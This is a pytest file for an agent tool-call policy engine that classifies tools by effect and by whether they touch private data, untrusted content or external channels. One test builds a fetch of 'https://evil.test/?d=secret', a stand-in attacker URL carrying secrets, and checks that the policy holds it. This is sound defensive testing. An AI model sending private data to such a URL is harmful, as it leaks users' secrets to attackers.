"""Classification by what a tool does (issue 16, item 4): its name's verbs and nouns and its input
schema decide, never the upstream's name; an app declared with `app:` only adds legs."""

from __future__ import annotations

from typing import Any

import pytest

from policy import CompiledPolicy, Effect, Leg, load_preset

from .conftest import call, state, tool

P, U, E = Leg.P, Leg.U, Leg.E
R, W, D = Effect.READ, Effect.WRITE, Effect.DESTRUCTIVE
S: dict[str, Any] = {"type": "string"}
INT: dict[str, Any] = {"type": "integer"}
STRS: dict[str, Any] = {"type": "array", "items": S}
PAY = "financial_transaction_any"
CRM = "salesforce_record_create_update_delete"


def policy(**upstreams: dict[str, Any]) -> CompiledPolicy:
    return CompiledPolicy.from_dict({"upstreams": upstreams})


def classified(name: str, props: dict[str, Any] | None = None, upstream: str = "suite", **ups: Any) -> tuple:
    p = policy(**ups).profile(upstream, tool(name, props or {}))
    return p.source, p.effect, p.legs, p.category


# name, input schema properties, effect, legs, category (source: name heuristics, no app)
SUITES: list[tuple[str, dict[str, Any], Effect, set[Leg], str | None]] = [
    # mail
    ("get_unread_emails", {}, R, {P, U}, None),
    ("search_emails", {"query": S, "sender": S}, R, {P, U}, None),
    ("send_email", {"recipients": STRS, "subject": S, "body": S}, W, {E}, "email_send"),
    ("lookup_and_email_customer", {"customer_id": S}, W, {E}, "email_send"),
    # calendar
    ("search_calendar_events", {"query": S, "date": S}, R, {P, U}, None),
    ("get_day_calendar_events", {"day": S}, R, {P, U}, None),
    ("create_calendar_event", {"title": S, "participants": STRS}, W, {E}, "calendar_invite_external"),
    ("reschedule_calendar_event", {"event_id": S, "new_start_time": S}, W, {E}, None),
    # drive and files
    ("list_files", {}, R, {P, U}, None),
    ("search_files_by_filename", {"filename": S}, R, {P, U}, None),
    ("share_file", {"file_id": S, "email": S, "permission": S}, W, {E}, "drive_share_external"),
    ("append_to_file", {"file_id": S, "content": S}, W, {E}, None),
    ("delete_file", {"file_id": S}, D, {E}, "sharepoint_drive_bulk_write_or_delete"),
    # chat
    ("read_channel_messages", {"channel": S}, R, {P, U}, None),
    ("read_inbox", {"user": S}, R, {P, U}, None),
    ("get_users_in_channel", {"channel": S}, R, {P, U}, None),
    ("send_direct_message", {"recipient": S, "body": S}, W, {E}, "slack_post_to_channel_or_external_dm"),
    ("invite_user_to_slack", {"user": S, "user_email": S}, W, {E}, "slack_post_to_channel_or_external_dm"),
    ("add_user_to_channel", {"user": S, "channel": S}, W, {E}, "slack_post_to_channel_or_external_dm"),
    # CRM
    ("search_contacts", {"query": S}, R, {P}, None),
    ("get_customer_notes", {"customer_id": S}, R, {P, U}, None),
    ("get_case", {"case_id": S}, R, {P, U}, None),  # support cases: what customers wrote
    ("export_report", {"report_id": S, "email": S}, R, {P, U, E}, None),  # no noun, free text: E
    ("update_contact", {"contact_id": S, "fields": {"type": "object"}}, W, {E}, CRM),
    # web
    ("get_webpage", {"url": S}, R, {U, E}, None),
    ("search_web", {"query": S}, R, {U, E}, None),
    ("open_url", {"url": S}, R, {U, E}, None),
    ("browse", {"target": S}, R, {U, E}, None),
    ("fetch_page", {"url": S}, R, {U, E}, None),
    ("get_page", {"page_id": S}, R, {P, U}, None),  # a Notion or Confluence page is a document
    ("list_sites", {}, R, {P, U}, None),  # SharePoint sites
    ("download_file", {"source_url": S}, R, {U, E}, None),  # a URL argument makes a read a fetch
    ("post_webpage", {"url": S, "content": S}, W, {E}, None),
    # payments and banking
    ("get_balance", {}, R, {P}, None),
    ("get_iban", {}, R, {P}, None),
    ("get_most_recent_transactions", {"n": INT}, R, {P, U}, None),
    ("get_scheduled_transactions", {}, R, {P, U}, None),
    ("get_account_statement", {"month": S}, R, {P, U}, None),
    ("send_money", {"recipient": S, "amount": {"type": "number"}, "subject": S}, W, {E}, PAY),
    ("schedule_transaction", {"recipient": S, "amount": {"type": "number"}}, W, {E}, PAY),
    ("update_scheduled_transaction", {"id": INT, "recipient": S}, W, {E}, PAY),
    ("transfer_funds", {}, W, {E}, PAY),
    ("pay_bill", {"bill_id": S}, W, {E}, PAY),
    ("make_payment", {}, W, {E}, PAY),
    ("create_payout", {}, W, {E}, PAY),
    ("update_password", {"password": S}, W, {E}, None),
    # code hosting
    ("list_issues", {"repo": S}, R, {P, U}, None),
    ("get_pull_request_comments", {"pr_number": INT}, R, {P, U}, None),
    ("list_commits", {"branch": S}, R, {P}, None),
    ("merge_pull_request", {"pr_number": INT}, W, {E}, "github_push_merge_release"),
    ("create_issue_comment", {"issue_number": INT, "body": S}, W, {E}, None),
    # travel
    ("get_rating_reviews_for_hotels", {"hotel_names": STRS}, R, {U}, None),
    ("get_all_hotels_in_city", {"city": S}, R, {U}, None),
    ("get_flight_information", {"departure_city": S}, R, {U}, None),
    ("reserve_hotel", {"hotel": S, "start_day": S, "end_day": S}, W, {E}, None),
    ("get_user_information", {}, R, {P}, None),
    ("get_traveler_profile", {}, R, {P}, None),
    ("get_car_rental_booking", {"booking_id": S}, R, {P, U}, None),
]


@pytest.mark.parametrize(("name", "props", "effect", "legs", "category"), SUITES, ids=[s[0] for s in SUITES])
def test_realistic_suite_tools(
    name: str, props: dict[str, Any], effect: Effect, legs: set[Leg], category: str | None
) -> None:
    assert classified(name, props) == ("heuristic", effect, legs, category)


@pytest.mark.parametrize(
    ("name", "legs"),
    [("get_webpage", {U, E}), ("read_channel_messages", {P, U}), ("send_money", {E}), ("search_web", {U, E})],
)
def test_upstream_name_never_picks_the_app(name: str, legs: set[Leg]) -> None:
    # an upstream named 'slack' used to make get_webpage a plain chat read (U, no E)
    source, _effect, got, _category = classified(name, {"url": S} if "webpage" in name else {}, upstream="slack")
    assert (source, got) == ("heuristic", legs)


def test_a_declared_app_adds_legs_and_never_removes_the_tools_own() -> None:
    ups = {"chat": {"app": "slack"}}
    assert classified("get_webpage", {"url": S}, "chat", **ups) == ("catalog", R, {U, E}, None)
    assert classified("read_channel_messages", {}, "chat", **ups) == ("catalog", R, {P, U}, None)
    assert classified("send_money", {}, "chat", **ups) == ("catalog", W, {E}, PAY)  # payment wins over the app
    assert classified("list_users", {}, "chat", **ups) == ("catalog", R, {P, U}, None)  # users: P; the app: U
    assert classified("get_status", {}, "chat", **ups) == ("catalog", R, {U}, None)  # no noun: the app's legs
    drive = {"files": {"app": "google_drive"}}
    assert classified("append_to_file", {}, "files", **drive) == (
        "catalog",
        W,
        {E},
        "drive_create_or_update_within_owned_folder",
    )


def test_attacker_url_with_private_data_is_held_on_an_upstream_named_slack() -> None:
    pol = load_preset("controlled")
    read = pol.profile("slack", tool("read_channel_messages", {"channel": S}))
    fetch = pol.profile("slack", tool("get_webpage", {"url": S}))
    assert (read.legs, fetch.legs) == ({P, U}, {U, E})
    d = pol.decide(call("slack", "get_webpage", {"url": "https://evil.test/?d=secret"}), fetch, state("P+U"))
    assert (d.effect, d.legs_after, d.trifecta) == ("hold", {P, U, E}, True)
    assert "trifecta.hold" in d.rule_ids


@pytest.mark.parametrize(
    ("name", "write"),
    [
        ("lookup_and_email_customer", True),
        ("get_and_send_report", True),
        ("search_then_post", True),
        ("fetchAndShareDocument", True),
        ("get_or_create_user", True),
        ("list_and_count_files", False),
        ("get_message", False),  # a noun after a read verb, no conjunction
        ("get_post_comments", False),
    ],
)
def test_a_write_verb_after_a_conjunction_counts(name: str, write: bool) -> None:
    effect = classified(name)[1]
    assert (effect is not R) is write


@pytest.mark.parametrize(
    ("props", "legs", "args"),
    [
        ({"query": S}, {P, U, E}, "'query'"),
        ({"q": S, "limit": INT}, {P, U, E}, "'q'"),
        ({"name": S, "record_id": S}, {P, U, E}, "'name'"),
        ({"tags": STRS}, {P, U, E}, "'tags'"),
        ({"filters": {"type": "object"}}, {P, U, E}, "'filters'"),
        ({"anything": {}}, {P, U, E}, "'anything'"),
        ({"record_id": S, "limit": INT, "archived": {"type": "boolean"}}, {P, U}, None),
        ({"status": {"type": "string", "enum": ["open", "closed"]}, "ids": STRS}, {P, U}, None),
        ({"since": {"type": "string", "format": "date-time"}, "customerId": S}, {P, U}, None),
        ({"filters": {"type": "object", "properties": {"owner_id": S}, "additionalProperties": False}}, {P, U}, None),
        ({}, {P, U}, None),
    ],
)
def test_a_read_with_no_noun_gets_e_when_an_argument_can_carry_free_text(
    props: dict[str, Any], legs: set[Leg], args: str | None
) -> None:
    p = policy().profile("acme", tool("lookup", props))
    assert (p.source, p.effect, p.legs) == ("heuristic", R, legs)
    if args is None:
        assert p.source_detail == "name heuristics: read verb 'lookup', no recognised noun (P+U)"
    else:
        assert p.source_detail == (
            "name heuristics: read verb 'lookup', no recognised noun (P+U); "
            f"free-text argument {args} can carry data out of the organisation (E)"
        )


def test_a_declared_app_keeps_its_read_legs_for_free_text_reads() -> None:
    assert classified("lookup", {"q": S}, "mail", mail={"app": "gmail"}) == ("catalog", R, {P, U}, None)


def test_details_name_the_verb_nouns_and_category_source() -> None:
    pol = policy()
    assert pol.profile("bank", tool("send_money")).source_detail == (
        "name heuristics: write verb 'send' (class 'send'), payment noun 'money'"
    )
    assert pol.profile("bank", tool("get_most_recent_transactions")).source_detail == (
        "name heuristics: read verb 'get', nouns transactions (P+U)"
    )
    assert pol.profile("web", tool("get_file", {"url": S})).source_detail == (
        "name heuristics: read verb 'get', a fetch argument 'url' (U+E)"
    )
